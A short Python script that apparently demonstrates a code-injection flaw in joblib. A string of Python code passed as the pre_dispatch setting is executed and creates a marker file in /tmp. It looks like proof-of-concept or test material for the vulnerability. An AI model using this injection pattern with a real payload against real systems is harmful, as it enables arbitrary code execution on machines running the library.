from math import sqrt

from joblib import Parallel, delayed

setting = "__import__('pathlib').Path('/tmp/made-by-joblib').touch() or 2"
Parallel(n_jobs=2, backend="threading", pre_dispatch=setting)(delayed(sqrt)(n) for n in (1, 4))
